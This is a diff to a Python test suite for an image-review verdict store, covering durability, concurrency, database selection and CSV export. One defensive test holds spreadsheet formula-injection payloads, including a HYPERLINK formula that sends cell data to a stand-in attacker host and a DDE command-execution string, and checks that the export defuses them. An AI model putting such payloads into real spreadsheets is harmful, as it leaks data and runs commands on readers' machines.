@@ -1,12 +1,14 @@
 """Reviewers' verdicts (skyscript_viz.reviews): nothing committed is ever lost, and the audit estimates.
 
-Durability is tested the hard way: eight threads, four spawned processes, and a process killed with
-SIGKILL in the middle of writing. The Wilson interval is checked against the formula written out
+Every store test runs twice: on a SQLite file and on a fresh database of a real PostgreSQL server
+(the session fixture ``pg``). Durability is tested the hard way: eight threads, four spawned
+processes, and a process killed with SIGKILL in the middle of writing. The Wilson interval is checked against the formula written out
 here and against published values (Newcombe 1998, Statistics in Medicine 17:857-872, table II).
 """
 
 from __future__ import annotations
 
+import itertools
 import math
 import multiprocessing as mp
 import os
@@ -15,6 +17,7 @@ import subprocess
 import sys
 import threading
 import time
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -25,6 +28,7 @@ from skyscript_viz import InvalidFilterError
 from skyscript_viz.reviews import VERDICTS, ReviewStore, stratified_estimate, wilson_interval
 
 REPO = Path(__file__).resolve().parents[1]
+_DB_COUNT = itertools.count()
 Z95 = 1.959963984540054
 
 
@@ -123,8 +127,20 @@ def test_stratified_interval_holds_the_rate(strata: list[tuple[int, int, int]]) 
 # ---- the store ------------------------------------------------------------------------------------------
 
 
-def test_two_reviewers_on_one_image_both_keep_their_verdict(tmp_path: Path) -> None:
-    store = ReviewStore(tmp_path / "reviews.sqlite")
+@pytest.fixture(params=["sqlite", "postgresql"])
+def db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
+    """Where a store lives: a new SQLite file, or a new database on the test PostgreSQL server."""
+    from skyscript_viz.reviewdb import dispose_all
+
+    if request.param == "sqlite":
+        yield str(tmp_path / "sub" / "reviews.sqlite")
+    else:
+        yield str(request.getfixturevalue("pg").create(f"reviews_{next(_DB_COUNT)}"))
+    dispose_all()  # no pooled connections pile up on the server from test to test
+
+
+def test_two_reviewers_on_one_image_both_keep_their_verdict(db: str) -> None:
+    store = ReviewStore(db)
     store.add("images2/a1_CH_19.jpg", "good", reviewer="Ada")
     store.add("images2/a1_CH_19.jpg", "bad_caption", reviewer="Grace", note="says school, shows a church")
     cur = store.current()
@@ -141,15 +157,15 @@ def test_two_reviewers_on_one_image_both_keep_their_verdict(tmp_path: Path) -> N
     assert store.filepaths_with(["bad_caption", "bad_image"]) == ["images2/a1_CH_19.jpg"]
 
 
-def test_verdicts_survive_a_new_store_on_the_same_file(tmp_path: Path) -> None:
-    path = tmp_path / "sub" / "reviews.sqlite"
+def test_verdicts_survive_a_new_store_on_the_same_file(db: str) -> None:
+    path = db
     seqs = [ReviewStore(path).add(f"images2/a{i}_CH_19.jpg", "good", reviewer="Ada") for i in range(3)]
     assert seqs == sorted(seqs) and len(set(seqs)) == 3
     assert list(ReviewStore(path).history()["seq"]) == seqs
 
 
-def test_current_of_one_audit(tmp_path: Path) -> None:
-    store = ReviewStore(tmp_path / "r.sqlite")
+def test_current_of_one_audit(db: str) -> None:
+    store = ReviewStore(db)
     store.add("a.jpg", "good", reviewer="Ada", audit="audit-1")
     store.add("a.jpg", "bad_image", reviewer="Ada")  # outside the audit
     store.add("b.jpg", "other", reviewer="Ada", audit="audit-2")
@@ -158,12 +174,12 @@ def test_current_of_one_audit(tmp_path: Path) -> None:
     assert len(store.current()) == 2
 
 
-def test_export_csv_has_every_verdict(tmp_path: Path) -> None:
+def test_export_csv_has_every_verdict(db: str) -> None:
     import io
 
     import pandas as pd
 
-    store = ReviewStore(tmp_path / "r.sqlite")
+    store = ReviewStore(db)
     store.add("a.jpg", "good", reviewer="Ada", note='comma, "quote"\nnewline')
     store.add("a.jpg", "other", reviewer="Ada")
     df = pd.read_csv(io.BytesIO(store.export_csv()))
@@ -173,23 +189,23 @@ def test_export_csv_has_every_verdict(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("verdict,reviewer", [("great", "Ada"), ("", "Ada"), ("GOOD", "Ada"), ("good", ""),
                                               ("good", "   ")])
-def test_invalid_verdict_or_empty_reviewer_is_refused(tmp_path: Path, verdict: str, reviewer: str) -> None:
-    store = ReviewStore(tmp_path / "r.sqlite")
+def test_invalid_verdict_or_empty_reviewer_is_refused(db: str, verdict: str, reviewer: str) -> None:
+    store = ReviewStore(db)
     with pytest.raises(InvalidFilterError):
         store.add("a.jpg", verdict, reviewer=reviewer)
     assert store.history().empty
 
 
-def test_saved_views_round_trip(tmp_path: Path) -> None:
-    store = ReviewStore(tmp_path / "r.sqlite")
+def test_saved_views_round_trip(db: str) -> None:
+    store = ReviewStore(db)
     assert store.views() == []
     store.save_view("tennis courts at 10 cm", "src=CH&tag=sport%3Dtennis")
     time.sleep(0.01)
     store.save_view("  Helsinki, 2019  ", "src=FI&y=2019-2019&bbox=24.9,60.1,25.0,60.2")
     assert store.views() == [("Helsinki, 2019", "src=FI&y=2019-2019&bbox=24.9,60.1,25.0,60.2"),
                              ("tennis courts at 10 cm", "src=CH&tag=sport%3Dtennis")]
-    store.save_view("tennis courts at 10 cm", "src=CH,ES&tag=sport%3Dtennis")  # replaced, not duplicated
-    assert dict(ReviewStore(tmp_path / "r.sqlite").views())["tennis courts at 10 cm"] == "src=CH,ES&tag=sport%3Dtennis"
+    store.save_view("tennis courts at 10 cm", "src=CH,ES&tag=sport%3Dtennis", replace=True)  # not duplicated
+    assert dict(ReviewStore(db).views())["tennis courts at 10 cm"] == "src=CH,ES&tag=sport%3Dtennis"
     assert len(store.views()) == 2
     with pytest.raises(InvalidFilterError):
         store.save_view("   ", "src=CH")
@@ -198,8 +214,8 @@ def test_saved_views_round_trip(tmp_path: Path) -> None:
 # ---- concurrency and crashes ------------------------------------------------------------------------------
 
 
-def test_eight_threads_keep_every_verdict(tmp_path: Path) -> None:
-    store = ReviewStore(tmp_path / "r.sqlite")
+def test_eight_threads_keep_every_verdict(db: str) -> None:
+    store = ReviewStore(db)
     per_thread = 25
     errors: list[BaseException] = []
     start = threading.Barrier(8)
@@ -231,9 +247,9 @@ def _process_writer(path: str, reviewer: str, n: int) -> int:
     return n
 
 
-def test_four_processes_keep_every_verdict(tmp_path: Path) -> None:
+def test_four_processes_keep_every_verdict(db: str) -> None:
     # four spawned processes race to create the store on a new file, then to write 50 verdicts each
-    path = str(tmp_path / "new" / "r.sqlite")
+    path = db
     with mp.get_context("spawn").Pool(4) as pool:
         done = pool.starmap(_process_writer, [(path, f"p{i}", 50) for i in range(4)])
     assert done == [50] * 4
@@ -253,8 +269,8 @@ for i in range(100_000):
 """
 
 
-def test_sigkill_mid_stream_loses_nothing_committed(tmp_path: Path) -> None:
-    path = tmp_path / "r.sqlite"
+def test_sigkill_mid_stream_loses_nothing_committed(db: str) -> None:
+    path = db
     ReviewStore(path).add("images2/before.jpg", "good", reviewer="Ada")
     proc = subprocess.Popen([sys.executable, "-c", KILLED_WRITER, str(path)], stdout=subprocess.PIPE, text=True,
                             cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)})
@@ -281,3 +297,191 @@ def test_sigkill_mid_stream_loses_nothing_committed(tmp_path: Path) -> None:
     assert (hist["note"].loc[hist["reviewer"] == "crashy"] == "x" * 200).all()
     # and the store still takes verdicts
     ReviewStore(path).add("images2/after.jpg", "good", reviewer="Ada")
+
+
+# ---- identities, owners, spreadsheets ---------------------------------------------------------------------
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                 "\t=1+1", "\r=1+1", "  =1+1"]
+
+
+@pytest.mark.parametrize("cell", HOSTILE_CELLS)
+def test_verdict_csv_neutralises_formulas_in_reviewer_text(db: str, cell: str) -> None:
+    import csv
+    import io
+
+    store = ReviewStore(db)
+    store.add("a.jpg", "other", reviewer=cell.strip() or "x", note=cell)
+    store.add("b.jpg", "good", reviewer="Ada", note="fine - really")
+    rows = list(csv.DictReader(io.StringIO(store.export_csv().decode())))
+    for row in rows:
+        for col in ("reviewer", "note", "filepath"):
+            assert not row[col].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (col, row[col])
+    assert rows[0]["note"] == "'" + cell  # kept readable: only a quote in front
+    assert rows[1]["note"] == "fine - really"  # text that is not a formula stays as written
+    assert [r["identity"] for r in rows] == ["unverified", "unverified"]
+    # the store itself keeps what was written: only the spreadsheet export is defused
+    assert store.history()["note"][0] == cell
+
+
+def test_signed_in_verdicts_are_marked_and_not_replaced_by_a_typed_name(db: str) -> None:
+    import csv
+    import io
+
+    store = ReviewStore(db)
+    store.add("a.jpg", "good", reviewer="ada@example.org", verified=True)
+    store.add("a.jpg", "bad_image", reviewer="ada@example.org")  # someone typing Ada's address
+    cur = store.current()
+    assert sorted(zip(cur["reviewer"], cur["verified"], cur["verdict"], strict=True)) == [
+        ("ada@example.org", False, "bad_image"), ("ada@example.org", True, "good")]
+    rows = list(csv.DictReader(io.StringIO(store.export_csv().decode())))
+    assert [r["identity"] for r in rows] == ["verified", "unverified"]
+
+
+def test_a_retried_verdict_is_stored_once(db: str) -> None:
+    store = ReviewStore(db)
+    first = store.add("a.jpg", "good", reviewer="Ada", uid="c0ffee" * 5)
+    assert store.add("a.jpg", "good", reviewer="Ada", uid="c0ffee" * 5) == first
+    assert len(store.history()) == 1
+
+
+def test_saved_views_cannot_be_overwritten_by_another_visitor(db: str) -> None:
+    from skyscript_viz import NotOwnerError, ViewExistsError
+
+    store = ReviewStore(db)
+    store.save_view("my courts", "src=CH", owner="ada@example.org", verified=True)
+    for owner, verified in [("bob", False), ("ada@example.org", False), ("", False), ("eve@example.org", True)]:
+        for replace in (False, True):
+            with pytest.raises(NotOwnerError, match="belongs to ada@example.org"):
+                store.save_view("my courts", "src=FI", owner=owner, verified=verified, replace=replace)
+    assert store.views() == [("my courts", "src=CH")]
+    with pytest.raises(ViewExistsError, match="confirm"):  # even its owner confirms a replacement
+        store.save_view("my courts", "src=ES", owner="ada@example.org", verified=True)
+    store.save_view("my courts", "src=ES", owner="ada@example.org", verified=True, replace=True)
+    assert store.views() == [("my courts", "src=ES")]
+    # a view saved without an owner: anyone may replace it, but only knowingly
+    store.save_view("shared", "src=US")
+    with pytest.raises(ViewExistsError):
+        store.save_view("shared", "src=NL", owner="bob")
+    store.save_view("shared", "src=NL", owner="bob", replace=True)
+    assert dict(store.views())["shared"] == "src=NL" and store.view_owners()["shared"] == ("bob", False)
+
+
+def test_two_visitors_saving_one_new_name_at_once_do_not_overwrite(db: str) -> None:
+    from skyscript_viz import ReviewStoreError
+
+    store = ReviewStore(db)
+    outcome: dict[str, str] = {}
+    start = threading.Barrier(6)
+
+    def save(who: str) -> None:
+        start.wait()
+        try:
+            store.save_view("race", f"q={who}", owner=who)
+            outcome[who] = "saved"
+        except ReviewStoreError as exc:
+            outcome[who] = type(exc).__name__
+
+    threads = [threading.Thread(target=save, args=(f"v{i}",)) for i in range(6)]
+    for th in threads:
+        th.start()
+    for th in threads:
+        th.join(60)
+    winners = [w for w, o in outcome.items() if o == "saved"]
+    assert len(winners) == 1 and len(outcome) == 6, outcome
+    assert set(outcome.values()) == {"saved", "NotOwnerError"}
+    assert store.views() == [("race", f"q={winners[0]}")]
+
+
+def test_a_store_of_an_earlier_release_is_migrated(tmp_path: Path) -> None:
+    import sqlite3
+
+    path = tmp_path / "reviews.sqlite"
+    con = sqlite3.connect(path)
+    con.executescript("""
+        CREATE TABLE verdicts (seq INTEGER PRIMARY KEY AUTOINCREMENT, filepath TEXT NOT NULL,
+            reviewer TEXT NOT NULL, verdict TEXT NOT NULL, note TEXT NOT NULL DEFAULT '', audit TEXT,
+            created REAL NOT NULL);
+        CREATE TABLE saved_views (name TEXT PRIMARY KEY, query TEXT NOT NULL, created REAL NOT NULL);
+        INSERT INTO verdicts (filepath, reviewer, verdict, note, created) VALUES ('a.jpg', 'Ada', 'good', '', 1.0),
+            ('a.jpg', 'Bob', 'other', 'hm', 2.0);
+        INSERT INTO saved_views VALUES ('old view', 'src=CH', 3.0);
+    """)
+    con.commit()
+    con.close()
+    store = ReviewStore(path)
+    hist = store.history()
+    assert list(zip(hist["reviewer"], hist["verdict"], hist["verified"], strict=True)) == [
+        ("Ada", "good", False), ("Bob", "other", False)]
+    assert store.views() == [("old view", "src=CH")]
+    assert store.add("b.jpg", "good", reviewer="Cy") == 3
+    uids = sqlite3.connect(path).execute("SELECT uid FROM verdicts").fetchall()
+    assert len({u for (u,) in uids}) == 3 and all(u for (u,) in uids)
+
+
+def test_a_corrupt_store_is_reported_not_raised(tmp_path: Path) -> None:
+    from skyscript_viz import ReviewStoreError
+    from skyscript_viz.reviews import open_review_store
+
+    path = tmp_path / "reviews.sqlite"
+    path.write_bytes(b"this is not a database" * 100)
+    with pytest.raises(ReviewStoreError, match="reviews.sqlite"):
+        ReviewStore(path)
+    store, notice = open_review_store(path)
+    assert notice and "unavailable" in notice and "not a database" in notice
+    assert store.history().empty and store.current().empty and store.views() == []
+    assert store.filepaths_with(["good"]) == []
+    with pytest.raises(ReviewStoreError):
+        store.add("a.jpg", "good", reviewer="Ada")
+    assert path.read_bytes() == b"this is not a database" * 100  # left as it was, for someone to look at
+
+
+def test_a_read_only_folder_gives_a_read_only_store(tmp_path: Path) -> None:
+    from skyscript_viz import ReviewStoreError
+    from skyscript_viz.reviews import open_review_store
+    from tests.readonly import read_only_folder
+
+    folder = tmp_path / "idx"
+    ReviewStore(folder / "reviews.sqlite").add("a.jpg", "good", reviewer="Ada")
+    from skyscript_viz.reviewdb import dispose_all
+
+    dispose_all()
+    with read_only_folder(folder):
+        store, notice = open_review_store(folder / "reviews.sqlite")
+        assert notice and "read-only" in notice
+        assert list(store.history()["reviewer"]) == ["Ada"]  # what was judged is still shown
+        with pytest.raises(ReviewStoreError, match="read-only"):
+            store.add("a.jpg", "bad_image", reviewer="Bob")
+        with pytest.raises(ReviewStoreError):
+            store.save_view("v", "src=CH")
+        store, notice = open_review_store(folder / "new" / "reviews.sqlite")  # no store there yet
+        assert notice and "unavailable" in notice and store.history().empty
+        dispose_all()
+
+
+@pytest.mark.parametrize("cli,env,secrets,want_url,origin", [
+    (None, {}, None, "sqlite:////IDX/reviews.sqlite", "default"),
+    ("postgresql://u@h/db", {"SKYSCRIPT_DB": "sqlite:///x"}, None, "postgresql+psycopg://u@h/db", "--db"),
+    (None, {"SKYSCRIPT_DB": "postgres://u:pw@h:5433/db"}, {"reviews": {"db": "x"}},
+     "postgresql+psycopg://u:pw@h:5433/db", "SKYSCRIPT_DB"),
+    (None, {}, {"reviews": {"db": "postgresql://u@h/db"}}, "postgresql+psycopg://u@h/db",
+     "secrets.toml [reviews] db"),
+    ("/data/r.sqlite", {}, None, "sqlite:////data/r.sqlite", "--db"),
+])
+def test_which_database(cli: str | None, env: dict[str, str], secrets: dict[str, dict[str, str]] | None,
+                        want_url: str, origin: str) -> None:
+    from skyscript_viz.reviewdb import resolve_db_url
+
+    setting = resolve_db_url(Path("/IDX"), cli=cli, secrets=secrets, environ=env)
+    assert (setting.url, setting.origin) == (want_url, origin)
+    assert "pw" not in repr(setting)
+
+
+def test_a_bad_database_url_says_how_to_fix_it() -> None:
+    from skyscript_viz import ReviewStoreError
+    from skyscript_viz.reviewdb import resolve_db_url
+
+    with pytest.raises(ReviewStoreError, match="SKYSCRIPT_DB") as err:
+        resolve_db_url(Path("/IDX"), environ={"SKYSCRIPT_DB": "mysql://u:pa55word@h/db"})
+    assert "pa55word" not in str(err.value)
